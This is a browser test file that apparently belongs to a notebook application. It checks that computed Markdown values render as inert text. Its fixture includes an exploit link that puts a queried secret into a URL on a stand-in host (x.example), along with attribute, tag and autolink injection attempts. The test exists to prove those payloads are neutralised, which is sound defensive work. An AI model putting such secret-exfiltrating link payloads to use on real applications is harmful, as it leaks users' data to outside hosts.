// Markdown values are text (issue 10, item 1): a computed value never forms or changes a URL, an
// attribute or markup. Every interpolation site, and the exact exploit of the issue, in real Chromium.
import { describe, expect, it } from "vitest";
import { ENGINE_TIMEOUT, openFromDisk, useApp } from "./app-fixture";

const app = useApp();
const fence = "```";
const CANARY = "CANARY-7f3";
const v = "${clients[0].secret}";

const NOTEBOOK = `---
notebook: 1
title: Values are text
---

${fence}sql clients
SELECT '${CANARY}' AS secret
${fence}

Exploit: [details](http://x.example/d?c=\${(await sql("SELECT secret FROM clients LIMIT 1"))[0].secret})

Image: ![pic](data:image/png;base64,${v}) Raw link: <a href="https://x.example/?q=${v}">raw link</a>

Attribute: <abbr title="${v}">abbr</abbr> Tag: <${v}> Internal: [next](?notebook=notebooks/live-inputs.md&ref=${v})

Autolinks: https://x.example/?q=${v} and <https://x.example/${v}> and ${v}@x.example

Static: [${v}](https://static.example/) **${v}**
`;

describe("Markdown values", () => {
  it("enter the page as text at every site: no link, image, attribute or tag is built from them", async () => {
    const ob = await app.open();
    const { page } = ob;
    const dialogs: string[] = [];
    page.on("dialog", (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await openFromDisk(ob, "values.md", NOTEBOOK);
    await page.locator('[data-action="trust"]').click();
    const prose = page.locator(".prose", { hasText: "Exploit:" });
    await expect.poll(() => prose.textContent(), { timeout: ENGINE_TIMEOUT }).toContain(`Exploit: details`);
    await expect.poll(() => prose.textContent(), { timeout: 30_000 }).toContain(`Static: ${CANARY} ${CANARY}`);
    await page.screenshot({ path: "/tmp/clientbook-markdown-values.png" });

    // No attribute anywhere in the prose holds the value (or the placeholder it stood in as).
    const attributes = await prose.evaluate((root) =>
      [...root.querySelectorAll("*")].flatMap((e) =>
        [...e.attributes].map((a) => `${e.nodeName} ${a.name}=${a.value}`),
      ),
    );
    expect(attributes.filter((a) => a.includes("CANARY") || /0cbv[0-9a-f]+v/.test(a))).toEqual([]);
    // The only link is the one whose address was written, not computed; no image is left.
    const links = await prose.locator("a").evaluateAll((as) => as.map((a) => [a.getAttribute("href"), a.textContent]));
    expect(links).toEqual([["https://static.example/", CANARY]]);
    expect(await prose.locator("img, abbr").count()).toBe(0);
    expect(await prose.locator("strong").textContent()).toBe(CANARY);
    // Computed links and images are inert text: the exploit's link text and address pieces, the tag as text.
    const text = (await prose.textContent()) ?? "";
    expect(text).toContain("Image: pic Raw link: raw link");
    expect(text).toContain(`Tag: <${CANARY}> Internal: next`);
    const autolinks = `https://x.example/?q=${CANARY} and https://x.example/${CANARY} and ${CANARY}@x.example`;
    expect(text).toContain(`Autolinks: ${autolinks}`);
    expect(text).not.toMatch(/0cbv[0-9a-f]+v/);
    expect(await prose.locator('[data-role="inert"]').count()).toBe(8);

    // Clicking the exploit's text goes nowhere and asks nothing.
    await prose.getByText("details").click();
    await page.waitForTimeout(300);
    expect(dialogs).toEqual([]);
    expect(page.url()).not.toContain("x.example");
  });
});
